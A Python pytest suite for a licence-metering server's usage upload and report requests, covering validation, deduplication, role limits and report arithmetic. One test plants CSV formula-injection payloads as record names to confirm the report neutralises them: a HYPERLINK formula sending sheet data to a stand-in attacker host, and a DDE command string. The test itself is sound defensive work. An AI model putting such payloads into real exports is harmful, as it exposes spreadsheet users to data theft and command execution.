"""`usage` and `report` through real in-process servers on real sockets: records judged one
by one, duplicates never counted twice (across servers on one store, across a restart), the
`user` role limited to its own records, and a report of a known set of records."""

from __future__ import annotations

import csv
import io
import time
from typing import Any

import pytest
import pytest_asyncio

from metering_protocol.client import ProtocolClient
from metering_protocol.errors import BadRequest, Forbidden, UnknownProduct
from metering_protocol.timefmt import rfc3339
from metering_server.admin_cli import report_csv

pytestmark = pytest.mark.asyncio

CREDS = {
    "alice": (["user"], "tok-alice"),
    "agent1": (["agent"], "tok-agent"),
    "boss": (["admin"], "tok-boss"),
}
PRODUCTS = [
    {"name": "CLOCK.EXE", "version": "4.00", "seats": 2, "mode": "enforce"},
    {"name": "CAD", "version": "*", "seats": 1, "mode": "meter"},
    {"name": "REV.EXE", "version": "1", "seats": 3, "mode": "enforce"},
]
# A period in the recent past (records may not be from the future).
BASE = float(int(time.time()) - 7200)


def at(offset: float) -> str:
    return rfc3339(BASE + offset)


def record(rid: str, start: float, end: float, **kw: Any) -> dict[str, Any]:
    return {
        "record_id": rid,
        "product": "CLOCK.EXE",
        "version": "4.00",
        "user": "alice",
        "client": "ws-1",
        "started_at": at(start),
        "ended_at": at(end),
        "outcome": "granted",
        **kw,
    }


@pytest_asyncio.fixture
async def server(make_server):
    return await make_server(credentials=CREDS, products=PRODUCTS)


@pytest_asyncio.fixture
async def connect():
    opened: list[ProtocolClient] = []

    async def _connect(server, user: str) -> ProtocolClient:
        c = await ProtocolClient.connect(server.address("tcp"), timeout=5)
        opened.append(c)
        await c.hello(f"ws-{user}", user=user, token=CREDS[user][1], timeout=5)
        return c

    yield _connect
    for c in opened:
        await c.close()


async def upload(c: ProtocolClient, *records: Any) -> dict[str, Any]:
    reply = await c.request("usage", timeout=10, records=list(records))
    return {k: reply[k] for k in ("accepted", "duplicates", "rejected")}


async def get_report(c: ProtocolClient, since: float, until: float, **kw: Any) -> dict[str, Any]:
    return await c.request("report", timeout=10, since=at(since), until=at(until), **kw)


# --- usage ---------------------------------------------------------------------------------------
async def test_usage_then_report_of_a_known_set_of_records(server, connect):
    agent, boss = await connect(server, "agent1"), await connect(server, "boss")
    records = [
        record("r1", -100, 300),  # clipped to [0, 300): 300 s
        record("r2", 200, 500, user="bob"),  # 300 s; overlaps r1 on [200, 300)
        record("r3", 300, 400, user="carol"),  # starts as r1 ends: peak stays 2
        record("r4", 250, 250, user="dave", outcome="denied"),
        record("c1", 0, 600, product="cad", version="7.1", user="bob"),
        record("c2", 100, 200, product="CAD", version="8", outcome="overuse"),
        record("z1", 10, 20, product="ZED", version="2", user="erin"),  # not in the catalogue
        record("old", -500, -100),  # before the period
    ]
    assert await upload(agent, *records) == {"accepted": 8, "duplicates": 0, "rejected": []}

    reply = await get_report(boss, 0, 1000)
    assert (reply["since"], reply["until"]) == (at(0), at(1000))
    assert reply["server"] == server.name and reply["site"] == "test"
    products = {(p["product"], p["version"]): p for p in reply["products"]}
    assert list(products) == [("CLOCK.EXE", "4.00"), ("CAD", "*"), ("REV.EXE", "1"), ("ZED", "2")]

    clock = products[("CLOCK.EXE", "4.00")]
    assert {
        k: clock[k]
        for k in ("seats", "sessions", "seconds", "hours", "peak_in_use", "denials", "overuse")
    } == {
        "seats": 2,
        "sessions": 3,
        "seconds": 700.0,
        "hours": round(700 / 3600, 3),
        "peak_in_use": 2,
        "denials": 1,
        "overuse": 0,
    }
    assert clock["peak_at"] == at(200)
    users = {u["user"]: u for u in clock["users"]}
    assert set(users) == {"alice", "bob", "carol", "dave"}
    assert (users["alice"]["seconds"], users["alice"]["sessions"]) == (300.0, 1)
    assert (users["dave"]["denials"], users["dave"]["sessions"]) == (1, 0)
    # At 300 r1 ends as r3 starts: the count does not change, so there is no point.
    assert clock["timeline"] == [[at(0), 1], [at(200), 2], [at(400), 1], [at(500), 0]]

    cad = products[("CAD", "*")]  # both versions in the one "*" pool
    assert (cad["seats"], cad["sessions"], cad["overuse"], cad["peak_in_use"]) == (1, 2, 1, 2)
    assert cad["seconds"] == 700.0
    rev = products[("REV.EXE", "1")]
    assert (rev["sessions"], rev["seconds"], rev["peak_in_use"], rev["users"]) == (0, 0.0, 0, [])
    zed = products[("ZED", "2")]
    assert (zed["seats"], zed["in_catalogue"], zed["sessions"]) == (None, False, 1)

    only = await get_report(boss, 0, 1000, product="cad")
    assert [(p["product"], p["version"]) for p in only["products"]] == [("CAD", "*")]


async def test_bad_records_are_rejected_alone(server, connect):
    agent = await connect(server, "agent1")
    missing = record("no-version", 0, 10)
    del missing["version"]
    batch = [
        record("ok-1", 0, 10),
        record("bad-time", 0, 10, started_at="yesterday"),
        record("backwards", 20, 10),
        missing,
        record("bad-outcome", 0, 10, outcome="stolen"),
        "not an object",
        record("x" * 129, 0, 10),
        record("future", 0, 10, ended_at=rfc3339(time.time() + 3 * 86400)),
        record("ok-2", 0, 10, user="zoe"),
    ]
    got = await upload(agent, *batch)
    assert (got["accepted"], got["duplicates"]) == (2, 0)
    rejected = {r["index"]: r for r in got["rejected"]}
    assert sorted(rejected) == [1, 2, 3, 4, 5, 6, 7]
    assert all(r["error"]["code"] == "bad_request" for r in rejected.values())
    assert all(r["error"]["retryable"] is False for r in rejected.values())
    assert (
        rejected[1]["record_id"] == "bad-time" and "started_at" in rejected[1]["error"]["message"]
    )
    assert "ended_at" in rejected[2]["error"]["message"]
    assert "version" in rejected[3]["error"]["message"]
    assert "outcome" in rejected[4]["error"]["message"]
    assert rejected[5]["record_id"] is None
    assert rejected[6]["record_id"] is None and "record_id" in rejected[6]["error"]["message"]
    assert rejected[7]["record_id"] == "future"


async def test_a_bad_frame_is_refused_whole(server, connect):
    agent = await connect(server, "agent1")
    with pytest.raises(BadRequest, match="records"):
        await agent.request("usage", timeout=5, records={"record_id": "x"})
    with pytest.raises(BadRequest, match="records"):
        await agent.request("usage", timeout=5, records=[{}] * 1001)
    assert await upload(agent) == {"accepted": 0, "duplicates": 0, "rejected": []}


async def test_a_user_principal_uploads_only_its_own_records(server, connect):
    alice, boss = await connect(server, "alice"), await connect(server, "boss")
    got = await upload(alice, record("mine", 0, 10), record("bobs", 0, 10, user="bob"))
    assert (got["accepted"], got["duplicates"]) == (1, 0)
    (refused,) = got["rejected"]
    assert refused["record_id"] == "bobs" and refused["error"]["code"] == "forbidden"
    users = (await get_report(boss, 0, 100, product="CLOCK.EXE"))["products"][0]["users"]
    assert [u["user"] for u in users] == ["alice"]


async def test_a_record_id_seen_before_is_a_duplicate_through_any_server(make_server, connect):
    a = await make_server(name="srv-a", credentials=CREDS, products=PRODUCTS)
    b = await make_server(name="srv-b", credentials=CREDS, products=PRODUCTS)
    on_a, on_b = await connect(a, "agent1"), await connect(b, "agent1")
    first = [record("d1", 0, 100), record("d2", 50, 150)]
    assert await upload(on_a, *first) == {"accepted": 2, "duplicates": 0, "rejected": []}
    # The agent failed over before it saw the reply, and sends the batch again elsewhere.
    assert await upload(on_b, *first, record("d3", 0, 10)) == {
        "accepted": 1,
        "duplicates": 2,
        "rejected": [],
    }
    # ... and again after srv-a restarted on the same store.
    await a.shutdown(timeout=1.0)
    again = await make_server(name="srv-a", credentials=CREDS, products=PRODUCTS)
    on_again = await connect(again, "agent1")
    assert await upload(on_again, *first, record("d3", 0, 10), record("d1", 0, 100)) == {
        "accepted": 0,
        "duplicates": 4,
        "rejected": [],
    }
    boss = await connect(again, "boss")
    clock = (await get_report(boss, 0, 1000, product="CLOCK.EXE"))["products"][0]
    assert (clock["sessions"], clock["seconds"]) == (3, 210.0)


# --- report --------------------------------------------------------------------------------------
async def test_report_needs_the_admin_role_and_a_valid_period(server, connect):
    alice, agent, boss = [await connect(server, u) for u in ("alice", "agent1", "boss")]
    for c in (alice, agent):
        with pytest.raises(Forbidden):
            await get_report(c, 0, 100)
    with pytest.raises(BadRequest, match="since"):
        await boss.request("report", timeout=5, since="last week", until=at(0))
    with pytest.raises(BadRequest, match="until"):
        await get_report(boss, 100, 100)
    with pytest.raises(UnknownProduct):
        await get_report(boss, 0, 100, product="NOPE")


async def test_an_empty_period_lists_the_catalogue_with_zeros(server, connect):
    boss = await connect(server, "boss")
    reply = await get_report(boss, 0, 3600)
    assert [p["product"] for p in reply["products"]] == ["CLOCK.EXE", "CAD", "REV.EXE"]
    for p in reply["products"]:
        assert (p["sessions"], p["seconds"], p["peak_in_use"], p["denials"]) == (0, 0.0, 0, 0)
        assert p["timeline"] == [[at(0), 0]]


async def test_the_csv_report_writes_uploaded_names_as_text_never_as_formulas(server, connect):
    """Any agent names the product and user of its records; a spreadsheet opening the CSV
    report would run a cell starting with = + - @ as a formula (a HYPERLINK sending the
    sheet's data away, DDE)."""
    agent, boss = await connect(server, "agent1"), await connect(server, "boss")
    evil_product = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    evil_user = "@SUM(1+1)*cmd|' /C calc'!A0"
    assert await upload(
        agent,
        record("f1", 10, 20, product=evil_product, version="1"),
        record("f2", 10, 20, user=evil_user),
        record("f3", 10, 20, user="-1+2"),
    ) == {"accepted": 3, "duplicates": 0, "rejected": []}
    data = await get_report(boss, 0, 100)
    rows = list(csv.DictReader(io.StringIO(report_csv(data))))
    cells = [cell for row in rows for cell in row.values()]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@")] == []
    assert "'" + evil_product in [r["product"] for r in rows]  # shown as it was sent
    assert {"'" + evil_user, "'-1+2"} <= {r["user"] for r in rows}
    assert {r["sessions"] for r in rows if r["user"] == "'-1+2"} == {"1"}  # numbers stay numbers


async def test_a_site_time_that_lags_refuses_no_record_of_a_right_clock(make_server, connect):
    """Found by a review of the site clock: a server whose time lagged the real time by more
    than a day (a step of its reference still being absorbed, `siteclock`) refused every
    agent's record with a right clock as "more than a day ahead of the server's clock".
    The check is against the later of the server's time and its host's."""
    lagging = await make_server(
        credentials=CREDS, products=PRODUCTS, clock=lambda: time.time() - 2 * 86400
    )
    c = await connect(lagging, "agent1")
    assert await upload(c, record("now", 7100, 7190)) == {
        "accepted": 1,
        "duplicates": 0,
        "rejected": [],
    }
    far = record("far", 7100, 7200 + 2 * 86400)  # ahead of any clock here: refused
    assert (await upload(c, far))["rejected"][0]["record_id"] == "far"
